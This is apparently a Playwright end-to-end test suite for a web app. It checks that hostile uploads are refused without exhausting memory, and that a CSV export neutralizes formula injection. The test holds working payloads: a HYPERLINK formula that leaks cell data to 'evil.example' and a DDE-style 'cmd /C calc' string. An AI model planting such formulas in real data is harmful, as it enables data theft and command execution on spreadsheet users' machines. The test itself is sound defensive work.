import { readFileSync, writeFileSync } from 'node:fs'
import { parse } from 'csv-parse/sync'
import { z } from 'zod'
import { E2E_BASE_PORT } from '../playwright.config'
import { DEMO_ACCOUNTS, DEMO_PASSWORD } from '../src/server/seed/demo-accounts'
import { documentOf } from '../tests/companies/company-edit-helpers'
import { companyInfo } from '../src/contract/companies'
import { expect, test } from './fixtures'
import { hostileUploads } from './hostile-uploads'
import { OwnServer, serveDuring } from './own-server'

// Files that hurt (decision 017) against the built server on its embedded database: each is
// refused with a 4xx in the /vue/ envelope in the caller's language, the server's memory (VmHWM of
// its process, the peak reset before each file) grows by at most 100 MB, and other users' calls
// (/health, a cached company info) keep being answered meanwhile. Then a CSV export of names that
// are formulas, downloaded in the browser, holds them as text.
test.describe.configure({ mode: 'serial' })
test.setTimeout(240_000)

const server = new OwnServer(E2E_BASE_PORT + 14, `./data/e2e-hostile-files-${process.pid}`)
const MB = 1_048_576

serveDuring(test, server)

async function token(account: keyof typeof DEMO_ACCOUNTS): Promise<string> {
  const response = await fetch(`${server.origin}/vue/login/`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ username: DEMO_ACCOUNTS[account].username, password: DEMO_PASSWORD }),
  })
  return z.object({ data: z.object({ jwt: z.string() }) }).parse(await response.json()).data.jwt
}

/** The server process's resident memory now and at its peak since the last reset, in bytes. */
function memory(): { rss: number; peak: number } {
  const status = readFileSync(`/proc/${server.pid}/status`, 'utf8')
  const kb = (name: string) => Number(new RegExp(`^${name}:\\s+(\\d+) kB`, 'm').exec(status)?.[1]) * 1024
  return { rss: kb('VmRSS'), peak: kb('VmHWM') }
}

/** Sets the peak back to the memory in use now (Linux: "5" to clear_refs). */
function resetPeak(): void {
  writeFileSync(`/proc/${server.pid}/clear_refs`, '5')
}

const envelope = z.object({ status: z.boolean(), messages: z.array(z.string()) })

test('hostile files are refused in the caller’s language, memory grows by at most 100 MB, other users keep getting answers', async () => {
  test.setTimeout(300_000)
  const staff = await token('staff')
  const dealer = await token('dealer')
  const info = `${server.origin}/vue/company/${DEMO_ACCOUNTS.dealer.companyId}/info/`
  const ownInfo = await fetch(`${server.origin}/vue/company/${DEMO_ACCOUNTS.staff.companyId}/info/`, { headers: { authorization: `JWT ${staff}` } })
  const uploads = hostileUploads(JSON.stringify(documentOf(companyInfo.parse(envelope.extend({ data: z.unknown() }).parse(await ownInfo.json()).data))))
  // Warm up every path once (csv-parse, saxes, sharp and libvips are loaded on first use).
  const warm = async (path: string, field: string, name: string, content: Uint8Array, extra: Record<string, string> = {}) => {
    const form = new FormData()
    for (const [key, value] of Object.entries(extra)) form.set(key, value)
    form.set(field, new Blob([new Uint8Array(content)]), name)
    const response = await fetch(`${server.origin}${path}`, { method: 'POST', headers: { authorization: `JWT ${staff}` }, body: form })
    expect(response.status, await response.text()).toBe(200)
  }
  await warm('/vue/price/upload/?dry_run=1', 'prices', 'p.csv', Buffer.from('article_uid;article_type;price\nWARM-1;GRIFF;1,00\n'))
  await warm('/vue/i18n/vartext-xml/', 'file', 't.xml', Buffer.from('<?xml version="1.0"?><vartexts><text key="WARM"><master>x</master></text></vartexts>'))
  expect((await fetch(info, { headers: { authorization: `JWT ${dealer}` } })).status).toBe(200) // now cached

  const report: string[] = []
  for (const upload of uploads) {
    const { body, contentType, length } = await upload.body()
    const headers: Record<string, string> = { authorization: `JWT ${staff}`, 'accept-language': upload.locale }
    if (contentType) headers['content-type'] = contentType
    if (length !== undefined) headers['content-length'] = String(length)
    const before = memory().rss
    resetPeak()
    let done = false
    const probes: Array<{ status: number[]; ms: number }> = []
    const probing = (async () => {
      while (!done) {
        const started = performance.now()
        const answers = await Promise.all([fetch(`${server.origin}/health`), fetch(info, { headers: { authorization: `JWT ${dealer}` } })])
        probes.push({ status: answers.map((answer) => answer.status), ms: performance.now() - started })
        await new Promise((resolve) => setTimeout(resolve, 25))
      }
    })()
    const started = performance.now()
    // A stream body goes half-duplex (fetch's rule; the DOM types lack the option).
    const init: RequestInit & { duplex: 'half' } = { method: 'POST', headers, body, duplex: 'half' }
    const response = await fetch(`${server.origin}${upload.path}`, init).finally(() => {
      done = true
    })
    const ms = performance.now() - started
    await probing
    const answer = envelope.parse(await response.json())
    const grown = memory().peak - before
    const slowest = Math.max(0, ...probes.map((probe) => probe.ms))
    report.push(
      `${upload.name}: ${response.status} in ${Math.round(ms)} ms, peak +${(grown / MB).toFixed(1)} MB, ${probes.length} probes (slowest ${Math.round(slowest)} ms) — ${answer.messages[0] ?? 'taken'}`,
    )
    expect.soft(response.status, upload.name).toBe(upload.status)
    expect.soft(answer.status, upload.name).toBe(upload.message === null)
    if (upload.message) expect.soft(answer.messages[0] ?? '', upload.name).toMatch(upload.message)
    expect.soft(grown, `${upload.name}: memory growth`).toBeLessThanOrEqual(100 * MB)
    expect
      .soft(
        probes.flatMap((probe) => probe.status).filter((status) => status !== 200),
        `${upload.name}: probes`,
      )
      .toEqual([])
    expect.soft(slowest, `${upload.name}: slowest probe`).toBeLessThan(2_000)
  }
  console.log(`hostile files on the built server:\n  ${report.join('\n  ')}`)
  expect((await fetch(`${server.origin}/health`)).status).toBe(200)
})

test('a CSV export of names that are formulas holds them as text, whatever separator the spreadsheet reads it with', async ({ page }) => {
  const dealer = await token('dealer')
  const call = async (path: string, body: unknown) => {
    const response = await fetch(`${server.origin}${path}`, {
      method: 'POST',
      headers: { authorization: `JWT ${dealer}`, 'content-type': 'application/json' },
      body: JSON.stringify(body),
    })
    const answer = envelope.extend({ data: z.object({ id: z.number() }) }).parse(await response.json())
    return answer.data.id
  }
  const company = '=HYPERLINK("http://evil.example/?leak="&A1,"Preisliste")'
  const cid = await call(`/vue/company/${DEMO_ACCOUNTS.dealer.companyId}/create/sub-company/`, {
    name1: company,
    address1: 'Hauptstraße 1',
    zip: '10115',
    city: 'Berlin',
    country: 'DE',
  })
  const email = `csv-injection-${process.pid}@demo.example`
  await call(`/vue/company/${cid}/create/contact/`, { email, first_name: "@SUM(1+1)*cmd|' /C calc'!A0", last_name: '-2+3' })
  const staff = await token('staff')
  const listed = async (active: string) => {
    const response = await fetch(`${server.origin}/vue/contact/list/?active=${active}&email=${encodeURIComponent(email)}`, {
      headers: { authorization: `JWT ${staff}` },
    })
    return JSON.stringify(await response.json()).includes(email)
  }
  const active = (await listed('1')) ? '1' : '0'
  expect(await listed(active)).toBe(true)

  await page.goto(`${server.origin}/`)
  // Typed only once the page is live: before that the form is plain HTML (e2e/fixtures.ts).
  await expect(page.locator('html[data-hydrated="true"]')).toBeAttached()
  await page.getByLabel(/Username|Benutzername/).fill(DEMO_ACCOUNTS.staff.username)
  await page.getByLabel(/^(Password|Passwort)$/).fill(DEMO_PASSWORD)
  await page.getByRole('button', { name: /^(Log in|Anmelden)$/ }).click()
  await page.waitForURL((url) => !url.pathname.endsWith('/'))
  await page.goto(`${server.origin}/manage-users?active=${active}&email=${encodeURIComponent(email)}`)
  await expect(page.locator('html[data-hydrated="true"]')).toBeAttached()
  await expect(page.getByRole('cell', { name: email, exact: true })).toBeVisible()
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: /^(Export CSV|Als CSV exportieren)$/ }).click()])
  const text = readFileSync(await download.path(), 'utf8')
  expect(text.startsWith('\uFEFF')).toBe(true)
  // As German Excel reads it (;), and as English Excel would (,): no cell starts a formula.
  for (const delimiter of [';', ',']) {
    const cells: string[] = parse(text, { bom: true, delimiter, relax_column_count: true, relax_quotes: true }).flat()
    expect(
      cells.filter((cell) => /^[\s]*[=+\-@]|^[\t\r]/.test(cell)),
      `read with ${delimiter}`,
    ).toEqual([])
  }
  const rows: string[][] = parse(text, { bom: true, delimiter: ';' })
  const row = rows.find((cells) => cells.includes(email)) ?? []
  expect(row).toContain(`'${company}`)
  expect(row.some((cell) => cell.startsWith("'@SUM(1+1)"))).toBe(true)
})
